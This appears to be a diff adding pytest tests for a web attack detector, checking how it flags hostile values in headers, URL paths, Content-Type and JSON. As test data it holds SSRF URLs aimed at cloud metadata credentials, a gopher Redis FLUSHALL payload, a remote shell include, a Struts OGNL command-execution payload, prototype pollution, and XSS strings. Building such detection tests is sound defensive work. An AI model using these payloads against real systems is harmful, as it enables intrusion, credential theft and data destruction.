@@ -1,0 +1,98 @@
+"""Carriers the points layer used to hide: URLs in custom headers and URL paths, Content-Type, JSON prototype keys."""
+from __future__ import annotations
+
+import pytest
+
+from sensor.detect import verdict
+from sensor.points import extract_all
+from tests.detect.conftest import req
+
+
+@pytest.mark.parametrize("name,value", [
+    ("X-Api-Callback", "http://127.0.0.1:9000/"),
+    ("X-Webhook-Url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("X-Include", "http://evil.example/shell.txt?"),
+    ("X-Import-Url", "gopher://127.0.0.1:6379/_FLUSHALL"),
+])
+def test_fetchable_urls_in_custom_headers_are_attacks(engine, name, value):
+    assert verdict(engine.inspect(req("/", headers=[(name, value)]))) == "attack"
+
+
+@pytest.mark.parametrize("name,value", [
+    ("X-Forwarded-For", "127.0.0.1, 10.0.0.7"),
+    ("X-Real-IP", "10.1.2.3"),
+    ("Forwarded", "for=192.168.0.4;proto=https;by=127.0.0.1"),
+    ("Via", "1.1 127.0.0.1:3128 (squid/5.7)"),
+    ("Referer", "http://localhost:3000/dashboard?tab=2"),
+    ("Origin", "http://127.0.0.1:8080"),
+    ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
+    ("X-Callback-Url", "https://hooks.partner.example/rampart"),
+])
+def test_proxy_link_and_ordinary_url_headers_stay_clean(engine, name, value):
+    assert verdict(engine.inspect(req("/", headers=[(name, value)]))) != "attack"
+
+
+def test_a_url_inside_a_url_path_is_inspected(engine):
+    r = req("/proxy/http://169.254.169.254/latest/meta-data/")
+    assert any(p.value.endswith("169.254.169.254/latest/meta-data/") for p in extract_all(r).points)
+    assert verdict(engine.inspect(r)) == "attack"
+
+
+def test_an_absolute_form_target_still_drops_its_authority():
+    paths = [p.value for p in extract_all(req("http://shop.example/cart/view?x=1")).points if p.path == ["path"]]
+    assert paths == ["/cart/view"]
+
+
+S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm)"
+          ":((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#cmd='id')"
+          ".(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start()))}")
+
+
+def test_code_in_a_content_type_is_an_attack(engine):
+    r = req("/upload.action", "POST", headers=[("Content-Type", S2_045)], body=b"x")
+    assert verdict(engine.inspect(r)) == "attack"
+
+
+@pytest.mark.parametrize("ctype", [
+    "application/json", "text/html; charset=UTF-8", "application/x-www-form-urlencoded;charset=utf-8",
+    'multipart/form-data; boundary="----=_Part_1_2.3"', "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
+    "application/vnd.api+json", "text/plain;",
+])
+def test_media_types_are_not_points(ctype):
+    r = req("/u", "POST", headers=[("Content-Type", ctype)], body=b"a=1")
+    assert not [p for p in extract_all(r).points if p.path[:2] == ["header", "CONTENT-TYPE"]]
+
+
+def test_constructor_prototype_keys_in_json_are_prototype_pollution(engine):
+    body = b'{"user": {"name": "x", "constructor": {"prototype": {"isAdmin": true}}}}'
+    r = req("/api/profile", "POST", headers=[("Content-Type", "application/json")], body=body)
+    assert any(h.rule == "node:prototype_pollution" for h in engine.inspect(r))
+
+
+def test_prototype_and_constructor_as_ordinary_fields_stay_clean(engine):
+    body = b'{"product": {"prototype": true, "constructor": "ACME Tools", "stage": "prototype"}}'
+    r = req("/api/products", "POST", headers=[("Content-Type", "application/json")], body=body)
+    assert verdict(engine.inspect(r)) != "attack"
+
+
+def test_markup_in_a_content_type_parameter_is_a_point(engine):
+    r = req("/u", "POST", headers=[("Content-Type", 'text/html; charset="<script>alert(1)</script>"')], body=b"x")
+    assert verdict(engine.inspect(r)) == "attack"
+
+
+def _upload(disposition: str) -> bytes:
+    return (f"--b1\r\nContent-Disposition: {disposition}\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b1--\r\n"
+            ).encode("latin-1")
+
+
+def test_markup_after_an_early_closed_file_name_is_inspected(engine):
+    body = _upload('form-data; name="avatar"; filename=""><img src=x onerror=alert(1)>.jpg"')
+    r = req("/upload", "POST", headers=[("Content-Type", "multipart/form-data; boundary=b1")], body=body)
+    assert verdict(engine.inspect(r)) == "attack"
+
+
+@pytest.mark.parametrize("disposition", ['form-data; name="avatar"; filename="IMG_2024-06-01 (1).jpg"',
+                                         "form-data; name=avatar; filename=report.pdf", 'attachment; filename="a b.png"'])
+def test_ordinary_dispositions_are_not_points(disposition):
+    r = req("/upload", "POST", headers=[("Content-Type", "multipart/form-data; boundary=b1")], body=_upload(disposition))
+    assert not [p for p in extract_all(r).points if "CONTENT-DISPOSITION" in p.path]
